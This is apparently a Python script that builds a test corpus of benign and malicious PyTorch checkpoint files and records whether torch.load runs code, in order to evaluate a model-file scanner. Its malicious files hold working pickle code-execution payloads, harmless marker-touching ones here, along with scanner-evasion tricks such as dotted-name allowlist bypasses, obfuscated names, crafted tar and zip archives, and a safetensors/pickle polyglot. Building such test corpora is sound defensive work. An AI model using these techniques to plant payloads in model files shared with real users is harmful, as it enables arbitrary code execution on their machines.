"""A corpus of checkpoints made by real PyTorch, and the ground truth from real torch.load.

usage:
  torch_corpus.py make OUTDIR MARKERDIR   write the files (OUTDIR/<name>); every payload
                                          creates MARKERDIR/<name> when it runs
  torch_corpus.py truth OUTDIR MARKERDIR  load every file twice, each time in a fresh
                                          forked process: torch.load(weights_only=False)
                                          (did a payload run? = the marker exists after it)
                                          and torch.load(weights_only=True) (accepted?);
                                          prints one JSON object {name: {"ran", "weights_only"}}

The names say what a file was meant to be ("evil_*", "ok_*"), but the test judges the scan
by the ground truth alone: a file whose loading ran code must be refused, a file that
torch.load(weights_only=True) accepts must be called clean.
"""
import collections, io, json, os, pickle, pickletools, struct, sys, tarfile, zipfile


def make(out, markers):
    import torch

    os.makedirs(out, exist_ok=True)
    files = {}

    def marker(name):
        return os.path.join(markers, name)

    def put(name, data):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)

    def saved(obj, **kw):
        b = io.BytesIO()
        torch.save(obj, b, **kw)
        return b.getvalue()

    # ---------------------------------------------------------------- benign, real torch.save
    lin = torch.nn.Sequential(
        torch.nn.Conv2d(3, 4, 3),
        torch.nn.BatchNorm2d(4),
        torch.nn.Flatten(),
        torch.nn.LazyLinear(2) if False else torch.nn.Linear(4, 2),
    )
    lstm = torch.nn.LSTM(4, 3, batch_first=True)
    opt = torch.optim.AdamW(lin.parameters(), lr=1e-3)
    lin(torch.randn(2, 3, 3, 3)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, 3)
    benign = {
        "state_dict": lin.state_dict(),
        "lstm": lstm.state_dict(),
        "checkpoint": {
            "epoch": 3,
            "model": lin.state_dict(),
            "optimizer": opt.state_dict(),
            "scheduler": sched.state_dict(),
            "best": 0.5,
            "name": "run-1",
            "tags": ["a", "b"],
            "flags": {True, False},
            "shape": torch.Size([2, 3]),
            "device": torch.device("cpu"),
            "dtype": torch.float16,
            "blob": b"\x00\x01bytes",
            "buf": bytearray(b"xyz"),
            "z": complex(1, 2),
            "big": 2**100,
            "none": None,
        },
        "tensor": torch.arange(10),
        "parameter": torch.nn.Parameter(torch.ones(3)),
        "views": (lambda t: [t, t[1:], t.view(2, 2)])(torch.arange(4.0)),
        "channels_last": torch.randn(1, 3, 4, 4).to(memory_format=torch.channels_last),
        "noncontig": torch.randn(4, 4).t(),
        "requires_grad": torch.randn(3, requires_grad=True).detach().requires_grad_(),
        "sparse_coo": torch.randn(3, 3).to_sparse(),
        "sparse_csr": torch.randn(3, 3).to_sparse_csr(),
        "sparse_csc": torch.randn(3, 3).to_sparse_csc(),
        "sparse_bsr": torch.randn(4, 4).to_sparse_bsr((2, 2)),
        "quant_tensor": torch.quantize_per_tensor(torch.randn(4), 0.1, 0, torch.quint8),
        "quant_channel": torch.quantize_per_channel(
            torch.randn(2, 3), torch.tensor([0.1, 0.2]), torch.tensor([0, 1]), 0, torch.qint8
        ),
        "meta": torch.empty(3, device="meta"),
        "untyped_storage": torch.arange(4).untyped_storage(),
        "layouts": [torch.sparse_coo, torch.strided, torch.sparse_csr],
        "memory_formats": [torch.channels_last, torch.contiguous_format],
        "ordered": collections.OrderedDict([("a", torch.zeros(1))]),
        "counter": collections.Counter("aab"),
        "dtypes": [getattr(torch, n) for n in (
            "float32", "float64", "float16", "bfloat16", "complex64", "complex128", "complex32",
            "uint8", "uint16", "uint32", "uint64", "int8", "int16", "int32", "int64", "bool",
            "float8_e4m3fn", "float8_e5m2", "float8_e4m3fnuz", "float8_e5m2fnuz",
            "float8_e8m0fnu", "float4_e2m1fn_x2", "quint8", "qint8", "qint32", "quint4x2",
            "quint2x4", "bits8", "bits16", "bits1x8", "bits2x4", "bits4x2",
            "uint1", "uint2", "uint3", "uint4", "uint5", "uint6", "uint7",
            "int1", "int2", "int3", "int4", "int5", "int6", "int7",
        ) if hasattr(torch, n)],
    }
    for dt in ("float16", "bfloat16", "float64", "complex64", "complex128", "bool", "int8",
               "uint16", "uint32", "uint64", "float8_e4m3fn", "float8_e5m2",
               "float8_e4m3fnuz", "float8_e5m2fnuz", "float8_e8m0fnu"):
        if hasattr(torch, dt):
            try:
                benign["dtype_" + dt] = torch.zeros(4).to(getattr(torch, dt))
            except Exception:
                pass
    p = torch.nn.Parameter(torch.ones(2))
    p.note = "with state"
    benign["parameter_state"] = p
    t = torch.ones(2)
    t.extra = {"k": 1}
    benign["tensor_attr"] = t
    try:
        benign["nested"] = torch.nested.nested_tensor([torch.ones(2), torch.ones(3)])
    except Exception:
        pass
    for name, obj in benign.items():
        try:
            put(f"ok_{name}.pt", saved(obj))
        except Exception as e:  # what this torch cannot save is no checkpoint
            print(f"torch_corpus: not saved: {name}: {e}", file=sys.stderr)
    put("ok_checkpoint_p4.pt", saved(benign["checkpoint"], pickle_protocol=4))
    put("ok_checkpoint_p5.pth", saved(benign["checkpoint"], pickle_protocol=5))
    put("ok_checkpoint_p3.bin", saved(benign["checkpoint"], pickle_protocol=3))
    for proto in (1, 2, 3, 4, 5):
        put(f"ok_legacy_p{proto}.pt",
            saved(benign["state_dict"], _use_new_zipfile_serialization=False, pickle_protocol=proto))
    put("ok_legacy_checkpoint.pth",
        saved(benign["checkpoint"], _use_new_zipfile_serialization=False))
    put("ok_noext", saved(benign["state_dict"]))
    put("ok_named.ckpt", saved(benign["state_dict"]))
    put("ok_best.pth.tar", saved(benign["state_dict"]))
    # saved to a path (the archive's directory is named after the file)
    torch.save(benign["state_dict"], os.path.join(out, "ok_to_path.pt"))
    torch.save(benign["checkpoint"], os.path.join(out, "ok_legacy_to_path.pt"),
               _use_new_zipfile_serialization=False)
    # a ~20 MB checkpoint: the pickle stays small, the tensors are skipped
    put("ok_large.pt", saved({"w": torch.zeros(5_000_000)}))

    # ---------------------------------------------------------------- payloads
    def code(name):
        return f"open({marker(name)!r}, 'w').close()"

    class Payload:
        def __init__(self, name, how="exec"):
            self.name, self.how = name, how

        def __reduce__(self):
            import builtins, subprocess
            m = marker(self.name)
            return {
                "exec": (builtins.exec, (code(self.name),)),
                "eval": (builtins.eval, (f"__import__('os').close(__import__('os').open({m!r}, 65))",)),
                "system": (os.system, (f"touch {m}",)),
                "popen": (subprocess.Popen, (["touch", m],)),
                "check_call": (subprocess.check_call, (["touch", m],)),
                "open": (builtins.open, (m, "w")),
            }[self.how]

    def evil_obj(name, how="exec"):
        sd = lin.state_dict()
        sd["payload"] = Payload(name, how)
        return sd

    for how in ("exec", "eval", "system", "popen", "check_call", "open"):
        n = f"evil_zip_{how}.pt"
        put(n, saved(evil_obj(n, how)))
    for proto in (2, 3, 4, 5):
        n = f"evil_zip_p{proto}.pth"
        put(n, saved(evil_obj(n), pickle_protocol=proto))
    for proto in (1, 2, 3, 4, 5):
        n = f"evil_legacy_p{proto}.pt"
        put(n, saved(evil_obj(n), _use_new_zipfile_serialization=False, pickle_protocol=proto))
    for ext in ("", ".bin", ".ckpt", ".pth.tar", ".safetensors", ".npy", ".txt", ".PT"):
        n = f"evil_ext{ext}"
        put(n, saved(evil_obj(n)))
        n = f"evil_raw_pickle{ext}"
        put(n, pickle.dumps(evil_obj(n), protocol=2))
    for proto in range(0, 6):
        n = f"evil_raw_p{proto}.pkl"
        put(n, pickle.dumps(Payload(n), protocol=proto))

    def raw_global_call(mod, qual, arg, proto=4):
        """STACK_GLOBAL mod qual, called with one string argument."""
        b = b"\x80" + bytes([proto])
        for s in (mod, qual):
            e = s.encode()
            b += b"\x8c" + bytes([len(e)]) + e
        a = arg.encode()
        b += b"\x93" + b"\x8c" + bytes([len(a)]) + a + b"\x85R."
        return b

    # class 1: dotted names under allowed modules reach any callable
    for mod, qual in (("torch.serialization", "os.system"),
                      ("torch._utils", "torch.serialization.os.system"),
                      ("torch", "serialization.os.system"),
                      ("collections", "os.system") if hasattr(collections, "os") else ("torch.serialization", "os.system"),
                      ("torch._tensor", "torch.serialization.os.system")):
        n = f"evil_dotted_{mod}_{qual}".replace(".", "_") + ".pkl"
        put(n, raw_global_call(mod, qual, f"touch {marker(n)}"))
    # a rebuild function the weights_only loader allows, given a harmful func argument
    n = "evil_rebuild_from_type_func.pkl"
    put(n, b"\x80\x02ctorch._tensor\n_rebuild_from_type_v2\nq\x00(cbuiltins\nexec\nq\x01ctorch\nTensor\n"
        + b"X" + struct.pack("<I", len(code(n))) + code(n).encode() + b"\x85}\x74R.")
    # INST, OBJ, NEWOBJ, NEWOBJ_EX, protocol 0 GLOBAL
    n = "evil_inst.pkl"
    put(n, b"(S'" + f"touch {marker(n)}".encode() + b"'\nios\nsystem\n.")
    n = "evil_obj.pkl"
    put(n, b"(cos\nsystem\nS'" + f"touch {marker(n)}".encode() + b"'\no.")
    n = "evil_global_p0.pkl"
    put(n, b"cos\nsystem\n(S'" + f"touch {marker(n)}".encode() + b"'\ntR.")
    n = "evil_builtin_py2.pkl"
    put(n, b"c__builtin__\nexec\n(S\"" + code(n).encode() + b"\"\ntR.")

    # pickles whose start or whose names a reader could get wrong
    touch = lambda n: f"touch {marker(n)}".encode()
    n = "evil_starts_short_binbytes"  # SHORT_BINBYTES first, no PROTO
    put(n, b"C\x00" + b"0cos\nsystem\n(S'" + touch(n) + b"'\ntR.")
    n = "evil_starts_binbytes"
    put(n, b"B\x00\x00\x00\x000cos\nsystem\n(S'" + touch(n) + b"'\ntR.")
    n = "evil_rot13_names"  # names computed by an allowed call (_codecs.encode)
    put(n, b"\x80\x04c_codecs\nencode\n(Vbf\nVrot13\ntRc_codecs\nencode\n(Vflfgrz\nVrot13\ntR\x93(V"
        + touch(n) + b"\ntR.")
    n = "evil_escaped_string_names"  # STRING arguments are escape-decoded
    put(n, b"S'\\x6fs'\nS'sys\\x74em'\n\x93(S'" + touch(n) + b"'\ntR.")
    n = "evil_unicode_escape_names"  # UNICODE arguments are raw-unicode-escape decoded
    put(n, b"V\\u006fs\nVsystem\n\x93(V" + touch(n) + b"\ntR.")
    n = "evil_put_underscore_index"  # PUT/GET indexes are Python ints: 1_0 is 10
    put(n, b"\x80\x04\x8c\x02os\x94p1_0\n0\x8c\x06system\x94g1_0\n\x8c\x06system\x93(V"
        + touch(n) + b"\ntR.")

    # legacy format: a payload in each of the five pickles torch reads
    good = saved(lin.state_dict(), _use_new_zipfile_serialization=False)
    parts, at = [], 0
    for _ in range(5):
        ops = list(pickletools.genops(good[at:]))
        end = at + ops[-1][2] + 1
        parts.append(good[at:end])
        at = end
    rest = good[at:]
    for i, what in enumerate(("magic", "protocol", "sys_info", "object", "storage_keys")):
        n = f"evil_legacy_in_{what}.pt"
        ps = list(parts)
        ps[i] = pickle.dumps(Payload(n), protocol=2)
        put(n, b"".join(ps) + rest)

    # the legacy tar format (torch < 0.4): members storages, tensors, pickle
    def tar_file(name, members, fmt=tarfile.USTAR_FORMAT, decoy_first=False):
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode="w", format=fmt) as t:
            ms = ([("README", b"decoy\n")] if decoy_first else []) + members
            for mn, data in ms:
                ti = tarfile.TarInfo(mn)
                ti.size = len(data)
                t.addfile(ti, io.BytesIO(data))
        return b.getvalue()

    for fmt, fname in ((tarfile.USTAR_FORMAT, "ustar"), (tarfile.GNU_FORMAT, "gnu"),
                       (tarfile.PAX_FORMAT, "pax")):
        for decoy in (False, True):
            n = f"evil_tar_{fname}{'_decoy' if decoy else ''}.pt"
            put(n, tar_file(n, [("storages", pickle.dumps(Payload(n), protocol=2))], fmt, decoy))
    # a v7 tar header (no "ustar" magic): Python's tarfile takes it by its checksum
    n = "evil_tar_v7.pt"
    tb = bytearray(tar_file(n, [("storages", pickle.dumps(Payload(n), protocol=2))]))
    tb[257:265] = b"\0" * 8
    tb[148:156] = b" " * 8
    tb[148:156] = b"%06o\0 " % sum(tb[:512])
    put(n, bytes(tb))
    n = "evil_tar_v7_decoy"
    tb = bytearray(tar_file(n, [("storages", pickle.dumps(Payload(n), protocol=2))], decoy_first=True))
    for off in (0, 1024):
        h = tb[off:off + 512]
        h[257:265] = b"\0" * 8
        h[148:156] = b" " * 8
        h[148:156] = b"%06o\0 " % sum(h)
        tb[off:off + 512] = h
    put(n, bytes(tb))

    # zips torch reads as checkpoints, not made by torch.save
    def zip_with(name, members, **kw):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", **kw) as z:
            for mn, data in members:
                z.writestr(mn, data)
        return b.getvalue()

    evil_pkl = lambda n: pickle.dumps(evil_obj(n), protocol=2)
    n = "evil_zip_python_zipfile.pt"
    put(n, zip_with(n, [("archive/data.pkl", evil_pkl(n)), ("archive/version", b"3\n")]))
    n = "evil_zip_deflated.pt"
    put(n, zip_with(n, [("archive/data.pkl", evil_pkl(n)), ("archive/version", b"3\n")],
                    compression=zipfile.ZIP_DEFLATED))
    n = "evil_zip_upper.pt"
    put(n, zip_with(n, [("archive/DATA.PKL", evil_pkl(n)), ("archive/version", b"3\n")]))
    n = "evil_zip_other_prefix.pt"
    put(n, zip_with(n, [("x/data.pkl", evil_pkl(n)), ("x/version", b"3\n")]))
    n = "evil_zip_comment.pt"
    z = zip_with(n, [("archive/data.pkl", evil_pkl(n)), ("archive/version", b"3\n")])
    put(n, z[:-2] + struct.pack("<H", 5) + b"hello")
    n = "evil_zip_duplicate.pt"
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        put(n, zip_with(n, [("archive/data.pkl", pickle.dumps(lin.state_dict(), protocol=2)),
                            ("archive/data.pkl", evil_pkl(n)), ("archive/version", b"3\n")]))
        n = "evil_zip_duplicate_evil_first.pt"
        put(n, zip_with(n, [("archive/data.pkl", evil_pkl(n)),
                            ("archive/data.pkl", pickle.dumps(lin.state_dict(), protocol=2)),
                            ("archive/version", b"3\n")]))
    # the central directory names data.pkl, the local header another name
    n = "evil_zip_local_name.pt"
    z = bytearray(zip_with(n, [("archive/data.pkl", evil_pkl(n)), ("archive/version", b"3\n")]))
    z[30:30 + 16] = b"archive/data.txt"
    put(n, bytes(z))
    # a pickle first, a torch.save zip after it
    n = "evil_zip_appended_pickle.pt"
    put(n, pickle.dumps(Payload(n), protocol=2) + saved(lin.state_dict()))

    # safetensors-looking files that torch would unpickle (opened by a name that does not
    # end in .safetensors)
    n = "evil_pickle_then_safetensors_header.bin"
    put(n, pickle.dumps(Payload(n), protocol=2) + b"\x10" + b"\0" * 7 + b"{}" + b" " * 14)

    # a valid safetensors file whose bytes are also a pickle: the header-length bytes start
    # a BINUNICODE string, SHORT_BINSTRINGs (printable lengths, legal in a JSON string)
    # swallow the rest of the header, and the "tensor" data is the payload, past the first
    # 4 KiB
    n = "evil_safetensors_polyglot.bin"
    payload = b"cos\nsystem\n(S'" + touch(n) + b"'\ntR."
    d = len(payload)
    prefix = ('{"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]},"__metadata__":{"p":"' % (d, d)).encode()
    l0 = 8 + len(prefix) - 5 + 1
    hlen = 0x58 + 256 * l0  # the 8 length bytes: X, l0, 0, 0, 0, 0, 0, 0
    q = 5 + l0  # where the pickle opcodes resume, inside the "p" string
    pad = b"a" * (q - 8 - len(prefix))
    end = 8 + hlen  # the JSON header's end: the pickle must get exactly here
    while True:
        rest = end - (8 + len(prefix) + len(pad)) - 2
        if rest <= 126:
            assert rest >= 35
            pad += b"U" + bytes([rest]) + b"a" * (rest - 3 - 10)
            break
        step = min(126, rest - 2 - 40)  # leave at least 40 for the last one
        pad += b"U" + bytes([step]) + b"a" * step
    header = prefix + pad + b'"}}' + b" " * 10
    assert len(header) == hlen, (len(header), hlen)
    blob = b"X" + bytes([l0]) + b"\0" * 6 + header + payload
    assert blob[:8] == struct.pack("<Q", hlen)
    put(n, blob)
    put("evil_safetensors_polyglot.safetensors", blob)

    return files


def truth(out, markers):
    import torch, warnings

    warnings.simplefilter("ignore")
    res = {}
    for name in sorted(os.listdir(out)):
        path = os.path.join(out, name)
        r = {}
        for wo in (False, True):
            pid = os.fork()
            if pid == 0:
                # a payload may start its effect in the background (subprocess.Popen, not
                # waited for): as a subreaper this process inherits such orphans and waits
                # for them (5 s at most) before it exits, so the marker is there, or never
                # comes, by the time the parent looks
                import ctypes, time
                ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
                code = 1
                try:
                    devnull = os.open(os.devnull, os.O_WRONLY)
                    os.dup2(devnull, 1)
                    os.dup2(devnull, 2)
                    torch.load(path, weights_only=wo, map_location="cpu")
                    code = 0
                except BaseException:
                    pass
                deadline = time.monotonic() + 5
                while time.monotonic() < deadline:
                    try:
                        if os.waitpid(-1, os.WNOHANG) == (0, 0):
                            time.sleep(0.01)
                    except ChildProcessError:
                        break
                os._exit(code)
            _, st = os.waitpid(pid, 0)
            if wo:
                r["weights_only"] = os.waitstatus_to_exitcode(st) == 0
            else:
                r["ran"] = os.path.exists(os.path.join(markers, name))
                r["loads"] = os.waitstatus_to_exitcode(st) == 0
            if wo and os.path.exists(os.path.join(markers, name)) and not r["ran"]:
                r["ran_weights_only"] = True
        res[name] = r
    json.dump(res, sys.stdout, indent=1, sort_keys=True)


if __name__ == "__main__":
    {"make": make, "truth": truth}[sys.argv[1]](sys.argv[2], sys.argv[3])
